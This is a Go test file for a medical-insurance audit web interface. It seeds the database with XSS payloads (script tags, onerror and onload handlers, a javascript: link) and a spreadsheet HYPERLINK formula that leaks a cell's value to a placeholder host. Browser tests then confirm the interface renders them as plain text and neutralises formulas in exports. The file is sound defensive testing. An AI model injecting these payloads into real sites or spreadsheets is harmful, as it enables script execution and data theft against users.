package main

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/yibao-dev/yibao/store/sqlite"
)

// Hostile strings put straight into the store (bypassing ingest's validation, as a bug or
// an old row would): each would run script if the cockpit ever made HTML from data.
const (
	xssImg     = `"><img src=x onerror="window.__xss='img'">`
	xssScript  = `<script>window.__xss='script'</script>`
	xssSVG     = `'><svg onload="window.__xss='svg'">`
	xssJS      = `javascript:window.__xss='href'`
	xssFormula = `=HYPERLINK("http://example.invalid/?x="&A1,"点击")`
)

// TestCockpitXSSInBrowser: payloads in every id and text field of every page are shown as
// text and never executed (the DOM holds no element or handler from data, and no script
// ran), links carry them URL-encoded, and exports neutralise formulas.
func TestCockpitXSSInBrowser(t *testing.T) {
	f := copyFixture(t, demoFixture(t))
	st, err := sqlite.Open(f.db)
	if err != nil {
		t.Fatal(err)
	}
	db := st.DB()
	exec := func(q string, args ...any) {
		t.Helper()
		if _, err := db.Exec(q, args...); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}
	evilHosp := "H" + xssImg
	evilDRG := "Z" + xssSVG
	evilSetl := "S" + xssImg + xssJS
	// A registry row with a hostile code and name, and hostile names for a real hospital.
	exec(`INSERT INTO hospitals (code, name, level, type, registered) VALUES (?, ?, 2, 'general', 1)`, evilHosp, xssScript+"医院")
	exec(`UPDATE hospitals SET name = ? WHERE code = ?`, xssScript+xssImg, f.hospital)
	// A settlement, its findings and its case payment with hostile ids and texts.
	var row int64
	var setl string
	if err := db.QueryRow(`SELECT f.settlement_row, f.setl_id FROM findings f JOIN settlements s ON s.id = f.settlement_row
		WHERE s.current = 1 AND s.hospital = ? AND EXISTS (SELECT 1 FROM case_payments c WHERE c.settlement_row = f.settlement_row) LIMIT 1`, f.hospital).Scan(&row, &setl); err != nil {
		t.Fatal(err)
	}
	exec(`UPDATE settlements SET setl_id = ? WHERE id = ?`, evilSetl, row)
	exec(`UPDATE findings SET setl_id = ?, evidence = ?, feedetl_sn = ?, rule_id = ?, category = ?, status = 'open' WHERE settlement_row = ?`,
		evilSetl, xssFormula+xssScript, xssSVG, "R"+xssImg, "c"+xssScript, row)
	exec(`UPDATE case_payments SET setl_id = ?, drg = ?, kind = ? WHERE settlement_row = ?`, evilSetl, evilDRG, "k"+xssImg, row)
	exec(`UPDATE groupings SET drg = ?, drg_name = ? WHERE settlement_row = ?`, evilDRG, xssScript+"病组", row)
	exec(`INSERT INTO appeals (hospital, target, reason, published_at, filed_at, state, decide_by, filed_by) VALUES (?, ?, ?, ?, ?, 'filed', ?, 'x')`,
		f.hospital, "finding:"+xssImg, xssScript+xssFormula, time.Now().Unix(), time.Now().Unix(), time.Now().AddDate(0, 0, 20).Unix())
	// Evaluation results: a hostile peer group, indicator id and light (JSON inside the store).
	jsonSafe := strings.NewReplacer(`"`, `\"`).Replace
	exec(`UPDATE evaluation_runs SET results = replace(replace(replace(results, '"peer_group":"1级-general"', ?), '"id":"drug_share"', ?), '"light":"red"', ?)`,
		`"peer_group":"`+jsonSafe(xssImg)+`"`, `"id":"`+jsonSafe(xssSVG)+`"`, `"light":"`+jsonSafe(xssScript)+`"`)
	// Paging past 500: move 620 priced cases of the latest run into one DRG.
	var big string
	if err := db.QueryRow(`SELECT drg FROM case_payments WHERE run_id = (SELECT max(id) FROM payment_runs WHERE kind = 'settle') AND drg != ? GROUP BY drg ORDER BY count(*) DESC LIMIT 1`, evilDRG).Scan(&big); err != nil {
		t.Fatal(err)
	}
	exec(`UPDATE case_payments SET drg = ? WHERE rowid IN (SELECT rowid FROM case_payments WHERE run_id = (SELECT max(id) FROM payment_runs WHERE kind = 'settle') AND settlement_row != ? LIMIT 620)`, big, row)
	var bigCases int
	db.QueryRow(`SELECT count(*) FROM case_payments WHERE run_id = (SELECT max(id) FROM payment_runs WHERE kind = 'settle') AND drg = ?`, big).Scan(&bigCases)
	st.Close()

	hs := cockpitServer(t, f, false)
	api := login(t, hs, "admin", f.passwords["admin"])
	b := newBrowser(t, hs.URL)
	b.login("admin", f.passwords["admin"])
	check := func(where string) {
		t.Helper()
		if v := b.eval(`String(window.__xss || "")`); v != "" {
			t.Fatalf("%s: script from data ran (%s)", where, v)
		}
		if n := b.eval(`String(document.querySelectorAll("#app img, #app script, #app svg, #app iframe, #app [onerror], #app [onload], #app a[href^='javascript']").length)`); n != "0" {
			t.Fatalf("%s: %s elements from data in the page", where, n)
		}
		b.noCSPViolations(where)
	}
	for _, p := range [][2]string{{"#/overview", "overview"}, {"#/hospitals", "hospitals"}, {href("hospital", f.hospital), "hospital"},
		{href("hospital", evilHosp), "hospital"}, {"#/drgs", "drgs"}, {href("drg", evilDRG), "drg"}, {"#/audit", "audit"},
		{"#/audit?q=" + url.QueryEscape("HYPERLINK"), "audit"}, {href("settlement", evilSetl), "settlement"}, {"#/linkage", "linkage"}} {
		b.open(p[0], p[1])
		b.must(chromedp.Sleep(300 * time.Millisecond)) // let grids load
		check(p[0])
	}
	// The payloads are on screen as text.
	b.open(href("hospital", f.hospital), "hospital")
	if name := b.eval(`document.getElementById("h-name").textContent`); !strings.Contains(name, xssScript+xssImg) {
		t.Fatalf("hostile hospital name not shown as text: %q", name)
	}
	b.open("#/hospitals", "hospitals")
	b.must(chromedp.WaitVisible(`#hospitals[aria-busy="false"]`))
	if txt := b.eval(`document.getElementById("hospitals").textContent`); !strings.Contains(txt, xssImg) || !strings.Contains(txt, xssSVG) {
		t.Fatal("hostile peer group or indicator id not shown as text on the hospitals page")
	}
	b.open("#/audit?q="+url.QueryEscape("HYPERLINK"), "audit")
	b.must(chromedp.WaitVisible(`#findings tbody tr[data-id]`))
	if ev := b.eval(`document.querySelector("#findings tbody tr[data-id] td.c-evidence").textContent`); !strings.Contains(ev, xssScript) {
		t.Fatalf("hostile evidence not shown as text: %q", ev)
	}
	// Links from hostile ids are URL-encoded and lead to the right record.
	b.must(chromedp.Click(`#findings tbody tr[data-id] td.c-setl_id a`), chromedp.WaitVisible(`#app[data-page="settlement"]`), chromedp.WaitVisible("#s-id"))
	check("settlement via link")
	// (The page shows the id kept inside the stored document, which the poisoning left alone.)
	if id := b.eval(`document.getElementById("s-id").textContent`); id != setl {
		t.Fatalf("settlement link led to %q, want %q", id, setl)
	}
	b.shot("xss-settlement")
	b.open(href("hospital", evilHosp), "hospital")
	check("hostile hospital page")
	b.shot("xss-hospital")
	// A DRG's case list pages past 500 with its total.
	b.open(href("drg", big)+"?limit=500", "drg")
	b.must(chromedp.WaitVisible(`#drgcases[aria-busy="false"]`))
	if n := b.eval(`String(document.querySelectorAll("#drgcases tbody tr").length)`); n != "500" {
		t.Fatalf("first page of %s: %s rows", big, n)
	}
	b.must(chromedp.Click("#drgcases-next"), chromedp.WaitVisible(`#drgcases[aria-busy="false"]`))
	info := b.eval(`document.getElementById("drgcases-info").textContent`)
	if want := fmt.Sprintf("第 501–%s 条，共 %s 条", groupInt(bigCases), groupInt(bigCases)); bigCases <= 500 || info != want {
		t.Fatalf("second page of %s: %q, want %q", big, info, want)
	}
	b.shot("drg-page-2")
	// Control: the policy is enforced and the counter sees it — markup with an inline
	// handler, as the old page would have built it, is blocked and reported.
	b.eval(`(() => { const d = document.createElement("div"); d.innerHTML = '<img src="data:," onerror="window.__xss=1">'; document.body.append(d); return ""; })()`)
	b.must(chromedp.Sleep(300 * time.Millisecond))
	if v, ran := b.eval(`window.__cspViolations.join("; ")`), b.eval(`String(window.__xss || "")`); !strings.Contains(v, "script-src") || ran != "" {
		t.Fatalf("CSP control: violations %q, script ran %q", v, ran)
	}
	// Exports: formulas neutralised in CSV and .xlsx.
	code, body, _ := api.raw("/api/audit/findings?format=csv&q=HYPERLINK")
	if code != 200 || !strings.Contains(string(body), `'=HYPERLINK`) || strings.Contains(strings.ReplaceAll(string(body), `'=HYPERLINK`, ""), `=HYPERLINK`) {
		t.Errorf("CSV export does not neutralise the formula: %d %s", code, body)
	}
	code, body, _ = api.raw("/api/appeals?format=csv")
	if code != 200 || strings.Contains(strings.ReplaceAll(string(body), `'<script>`, ""), `,=HYPERLINK`) {
		t.Errorf("appeals CSV: %d", code)
	}
}

func groupInt(n int) string {
	s := fmt.Sprint(n)
	for i := len(s) - 3; i > 0; i -= 3 {
		s = s[:i] + "," + s[i:]
	}
	return s
}

// selfSigned makes a certificate for the given IPs, valid for an hour.
// href builds a cockpit hash link as the UI does (each part URL-encoded).
func href(page, id string) string { return "#/" + page + "/" + url.PathEscape(id) }

func selfSigned(t *testing.T, ips ...net.IP) tls.Certificate {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "yibao test"}, NotBefore: time.Now().Add(-time.Minute),
		NotAfter: time.Now().Add(time.Hour), IPAddresses: ips, KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
}

// TestCockpitLoginTLSInBrowser: on an address that is not "localhost" (127.0.0.2), login
// works over TLS with a Secure cookie, and over plain HTTP with a cookie that is not Secure
// (before, the Secure cookie was dropped and login bounced back silently).
func TestCockpitLoginTLSInBrowser(t *testing.T) {
	f := copyFixture(t, demoFixture(t)) // logs in: other tests lock accounts on purpose
	st, err := sqlite.Open(f.db)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	srv, err := newWebServer(st, f.db, filepath.Join(f.region, "kb"), f.region, "2025", log.New(io.Discard, "", 0))
	if err != nil {
		t.Fatal(err)
	}
	ip := net.ParseIP("127.0.0.2")
	start := func(useTLS bool) *httptest.Server {
		ln, err := net.Listen("tcp", "127.0.0.2:0")
		if err != nil {
			t.Skipf("cannot listen on 127.0.0.2: %v", err)
		}
		hs := httptest.NewUnstartedServer(srv.Handler())
		hs.Listener.Close()
		hs.Listener = ln
		if useTLS {
			hs.TLS = &tls.Config{Certificates: []tls.Certificate{selfSigned(t, ip)}}
			hs.StartTLS()
		} else {
			hs.Start()
		}
		t.Cleanup(hs.Close)
		return hs
	}
	for _, useTLS := range []bool{true, false} {
		hs := start(useTLS)
		// The cookie's Secure attribute follows the scheme.
		jar, _ := cookiejar.New(nil)
		c := &http.Client{Jar: jar, Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
		resp, err := c.Post(hs.URL+"/api/login", "application/json", strings.NewReader(fmt.Sprintf(`{"username":"analyst","password":%q}`, f.passwords["analyst"])))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		var session string
		for _, v := range resp.Header.Values("Set-Cookie") {
			if strings.HasPrefix(v, "yibao_session=") {
				session = v
			}
		}
		if resp.StatusCode != 200 || strings.Contains(session, "Secure") != useTLS {
			t.Fatalf("TLS %v: login %d, cookie %q", useTLS, resp.StatusCode, session)
		}
		if useTLS && resp.Header.Get("Strict-Transport-Security") == "" {
			t.Error("no HSTS over TLS")
		}
		// A real browser logs in and stays logged in.
		b := newBrowser(t, hs.URL, chromedp.Flag("ignore-certificate-errors", true))
		b.login("analyst", f.passwords["analyst"])
		b.open("#/hospitals", "hospitals")
		b.must(chromedp.WaitVisible(`#hospitals tbody tr[data-id], #hospitals tbody tr`))
		if who := b.eval(`document.getElementById("who").textContent`); !strings.Contains(who, "analyst") {
			t.Fatalf("TLS %v: after login %q", useTLS, who)
		}
		b.shot(fmt.Sprintf("login-127.0.0.2-tls-%v", useTLS))
	}
}
